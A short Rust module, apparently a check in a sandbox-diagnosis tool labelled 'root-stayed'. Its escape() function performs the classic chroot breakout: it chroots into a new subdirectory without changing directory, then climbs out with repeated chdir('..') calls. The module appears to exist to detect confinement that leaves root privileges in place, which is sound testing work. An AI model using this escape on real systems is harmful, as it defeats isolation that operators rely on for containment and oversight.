//! diagnosis: root-stayed
//! made by: whoever looks with `ls .`, which shows the host.

use std::fs;

use anyhow::{Context, Result};
use nix::unistd::{chdir, chroot};

pub fn escape() -> Result<()> {
    fs::create_dir_all("below").context("making a directory")?;
    chroot("below").context("chroot")?;
    for _ in 0..1000 {
        chdir("..").context("chdir")?;
    }
    Ok(())
}
